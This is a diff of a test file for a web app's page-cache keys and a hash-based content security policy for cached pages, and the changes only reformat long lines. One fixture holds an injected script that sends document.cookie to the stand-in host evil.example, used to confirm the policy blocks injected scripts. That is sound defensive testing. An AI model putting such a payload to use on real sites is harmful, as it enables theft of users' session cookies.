@@ -100,7 +100,17 @@ describe('which requests the cache may answer', () => {
   it('keys only the canonical spelling of a path: case, percent-encoding, slashes and dot segments are not cached', () => {
     expect(publicCacheKey(req('/blog/getting-started'))).toBe('en /blog/getting-started');
     expect(publicCacheKey(req('/sitemap.xml'))).toBe('en /sitemap.xml');
-    for (const variant of ['/Blog', '/BLOG/getting-started', '/blog/', '/%62log', '/blog//x', '/./blog', '/blog/../about', '/Media/seed/hero.jpg', '/%6Dedia/seed/hero.jpg']) {
+    for (const variant of [
+      '/Blog',
+      '/BLOG/getting-started',
+      '/blog/',
+      '/%62log',
+      '/blog//x',
+      '/./blog',
+      '/blog/../about',
+      '/Media/seed/hero.jpg',
+      '/%6Dedia/seed/hero.jpg',
+    ]) {
       expect(publicCacheKey(req(variant)), variant).toBeNull();
     }
     // ?page=1 is /blog itself; a page number only counts when it is written the one way.
@@ -114,7 +124,8 @@ describe('script-hash CSP for nonce-free cached pages', () => {
   const policy = "default-src 'self';script-src 'self' 'nonce-N0nce+/=';style-src 'self'";
 
   it('allows by hash exactly the inline scripts the app emitted with the render nonce, and drops the nonce', () => {
-    const html = '<script src="/a.js" nonce="N0nce+/="></script><script nonce="N0nce+/=">console.log(1)</script><script type="module" nonce="N0nce+/=">import "/b.js";</script>';
+    const html =
+      '<script src="/a.js" nonce="N0nce+/="></script><script nonce="N0nce+/=">console.log(1)</script><script type="module" nonce="N0nce+/=">import "/b.js";</script>';
     const cached = cspForCachedPage(policy, html, 'N0nce+/=');
     expect(cached.csp).not.toContain('nonce');
     expect(cached.csp.match(/'sha256-/g)).toHaveLength(2);
@@ -124,7 +135,8 @@ describe('script-hash CSP for nonce-free cached pages', () => {
   });
 
   it('does not allow a script injected into the page content', () => {
-    const injected = '<p>hello</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script nonce="guess">alert(1)</script>';
+    const injected =
+      '<p>hello</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script nonce="guess">alert(1)</script>';
     const html = `<script nonce="N0nce+/=">app()</script>${injected}`;
     const cached = cspForCachedPage(policy, html, 'N0nce+/=');
     expect(cached.csp.match(/'sha256-/g)).toHaveLength(1);
